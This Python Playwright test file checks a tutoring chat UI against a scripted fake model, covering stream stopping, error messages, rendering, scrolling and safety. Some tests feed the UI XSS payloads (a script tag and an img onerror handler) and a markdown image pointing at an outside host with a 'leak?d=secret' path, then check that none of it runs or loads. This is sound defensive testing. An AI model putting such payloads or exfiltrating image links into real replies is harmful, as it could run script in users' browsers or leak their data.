"""The classroom on a litellm model (a scripted OpenAI-compatible server on loopback): the
learner stops a long answer and keeps what was written; a provider refusing the key is
explained in words, not as the provider's error; a misbehaving model (an answer cut at its
length limit, raw HTML, a quiz with a broken key) leaves nothing misleading on screen, and
an image it points at another host is a link the browser never fetches."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.async_api import Page, expect

from tests.agents.fake_openai import (
    Fail,
    FakeOpenAI,
    Stream,
    finish_chunk,
    stream_text,
    stream_tool_calls,
    text_chunks,
)
from tests.e2e.conftest import Servers
from tests.e2e.test_foreign_images import Elsewhere, watch

pytestmark = pytest.mark.browser
WORDS = [f"word{i} " for i in range(400)]


@pytest.fixture(scope="module")
def model() -> Iterator[FakeOpenAI]:
    with FakeOpenAI() as fake:
        yield fake


@pytest.fixture(scope="module")
def live(servers: Servers, model: FakeOpenAI) -> Iterator[Servers]:
    """The session's API restarted on the scripted model; the offline tutor again after."""
    servers.stop_api()
    servers.start_api_again(
        LH_MODEL="openai/fake-tutor", OPENAI_API_BASE=model.base_url, OPENAI_API_KEY="sk-test"
    )
    try:
        yield servers
    finally:
        servers.stop_api()
        servers.start_api_again()


async def _new_session(page: Page, live: Servers) -> None:
    await page.goto(live.ui_url + "/")
    await page.locator("#new-session").first.click()
    await page.wait_for_url(re.compile(r"/chat/"))
    await expect(page.locator("#tutor-label")).to_have_text("openai/fake-tutor")


async def test_stop_ends_a_long_answer_and_keeps_what_was_written(
    live: Servers, model: FakeOpenAI, page: Page
):
    model.script(Stream([*text_chunks(*WORDS), *finish_chunk("stop")], delay=0.05))
    await _new_session(page, live)
    await page.locator("#composer").fill("Tell me everything")
    await page.locator("#composer").press("Enter")
    await expect(page.locator("#conversation")).to_contain_text("word3 ")
    # A screen reader waits for the whole answer instead of reading each streamed token.
    await expect(page.locator("#conversation")).to_have_attribute("aria-busy", "true")
    await page.keyboard.press("Tab")  # from the composer, with the keyboard only
    await expect(page.locator("#stop")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(page.locator("#composer")).to_be_focused()  # not lost as Stop goes away
    await expect(page.locator("#send")).to_be_visible()  # the turn ended
    await expect(page.locator("#stop")).to_have_count(0)
    written = await page.locator("#conversation").inner_text()
    assert "word3" in written and "word399" not in written
    await page.reload()  # what was written is kept in the chat, not only on screen
    await expect(page.locator("#conversation")).to_contain_text("word3 ")


async def test_a_refused_key_is_explained_to_the_learner(
    live: Servers, model: FakeOpenAI, page: Page
):
    model.script(Fail(401, "Incorrect API key provided: sk-test"))
    await _new_session(page, live)
    await page.locator("#composer").fill("Teach me fractions")
    await page.locator("#composer").press("Enter")
    alert = page.locator("#room-error")
    await expect(alert).to_contain_text("refused its API key")
    await expect(alert).not_to_contain_text("Incorrect API key")
    await page.keyboard.press("Shift+Tab")  # the alert sits just above the composer
    await expect(alert.get_by_role("button", name="Dismiss")).to_be_focused()
    await page.keyboard.press("Enter")
    await expect(alert).to_have_count(0)
    await expect(page.locator("#composer")).to_be_focused()


LONG_CODE_LINE = "def compare(a, b, c, d): return " + " + ".join(["a * d - c * b"] * 8)
RICH = f"""| fraction | decimal |
|---|---|
| 3/4 | 0.75 |

> A quote with a [link](https://example.org/fractions).

```python
{LONG_CODE_LINE}
```
"""


async def test_model_markdown_renders_tables_and_quotes_and_fits_a_phone(
    live: Servers, model: FakeOpenAI, page: Page
):
    model.script(Stream([*text_chunks(RICH), *finish_chunk("stop")]))
    await _new_session(page, live)
    await page.locator("#composer").fill("Compare " + "fractions and decimals " * 8)
    await page.locator("#composer").press("Enter")
    cell = page.locator(".lh-markdown td").first
    await expect(cell).to_have_text("3/4")
    style = "(e, side) => getComputedStyle(e)[side]"
    assert await cell.evaluate(style, "borderLeftWidth") == "1px"
    quote = page.locator(".lh-markdown blockquote")
    assert await quote.evaluate(style, "borderLeftWidth") == "3px"
    await page.set_viewport_size({"width": 390, "height": 844})
    await expect(page.locator("#room-title")).to_be_visible()  # a long title is cut, ...
    widths = "[document.documentElement.scrollWidth, window.innerWidth]"
    scroll, inner = await page.evaluate(widths)
    assert scroll <= inner  # ... and nothing makes the page scroll sideways


PARAGRAPHS = [f"Paragraph {i}: " + "more and more text " * 6 + "\n\n" for i in range(120)]
IN_VIEW = "s => { const r = document.querySelector(s).getBoundingClientRect();"
IN_VIEW += " return r.top >= 0 && r.bottom <= window.innerHeight; }"


async def test_a_streamed_answer_is_followed_at_the_bottom_and_left_alone_above(
    live: Servers, model: FakeOpenAI, page: Page
):
    for _ in range(2):
        model.script(Stream([*text_chunks(*PARAGRAPHS), *finish_chunk("stop")], delay=0.03))
    await _new_session(page, live)
    await page.locator("#composer").fill("Tell me a long story")
    await page.locator("#composer").press("Enter")
    await expect(page.locator("#conversation")).to_contain_text("Paragraph 60:", timeout=20_000)
    assert await page.evaluate(IN_VIEW, "#composer")  # it followed the answer down
    await expect(page.locator("#send")).to_be_visible(timeout=30_000)

    await page.locator("#composer").fill("And another")
    await page.locator("#composer").press("Enter")
    await expect(page.locator("#conversation")).to_contain_text("Paragraph 3:")
    await page.evaluate("window.scrollTo(0, 200)")  # the learner scrolls up to reread
    await expect(page.locator("#stop")).to_have_count(0, timeout=30_000)
    assert await page.evaluate("window.scrollY") == 200  # and the page stayed where they were

    await page.reload()  # a chat opens at its latest message
    await expect(page.locator("#conversation")).to_contain_text("Paragraph 119:", timeout=20_000)
    await page.wait_for_function(f"({IN_VIEW})('#composer')", timeout=10_000)


REFUSED_QUIZ = (
    '{"question": {"kind": "multiple_choice", "prompt": "Which is larger?", "options": '
    '[{"id": "a", "text": "1/3"}, {"id": "b", "text": "1/2"}], "correct": "z"}}'
)
HOSTILE = '<b>bold?</b> <script>alert(1)</script> <img src=x onerror="alert(2)">'


async def test_a_misbehaving_model_is_explained_and_its_html_stays_text(
    live: Servers, model: FakeOpenAI, page: Page
):
    model.script(
        stream_tool_calls([("q1", "quiz", REFUSED_QUIZ)], text=HOSTILE),
        Stream([*text_chunks("A half is one of two equal par"), *finish_chunk("length")]),
    )
    await _new_session(page, live)
    await page.locator("#composer").fill("Quiz me")
    await page.locator("#composer").press("Enter")
    # Cut at the model's length limit: said in a sentence, not left to look complete.
    await expect(page.locator("#room-error")).to_contain_text("cut off. Ask it to go on")
    conversation = page.locator("#conversation")
    await expect(conversation).to_contain_text("<b>bold?</b> <script>alert(1)</script>")
    assert await conversation.locator("b, script, img").count() == 0  # text, never DOM
    # The quiz with a key that is not one of its options was never asked.
    await expect(conversation).not_to_contain_text("Which is larger?")
    await expect(page.locator(".lh-question-item")).to_have_count(0)


async def test_a_streamed_reply_with_a_foreign_image_fetches_nothing(
    live: Servers, model: FakeOpenAI, page: Page
):
    with Elsewhere() as elsewhere:
        reply = f"Look: ![t](http://{elsewhere.host}/leak?d=secret) and on."
        model.script(stream_text(reply))
        foreign = watch(page, live.ui_url)
        await _new_session(page, live)
        await page.locator("#composer").fill("Show me a picture")
        await page.locator("#composer").press("Enter")
        link = page.locator("#conversation .lh-foreign-image")
        await expect(link).to_have_text(f"t (image from {elsewhere.host})")
        await expect(page.locator("#send")).to_be_visible()
        assert foreign == [] and elsewhere.paths == []
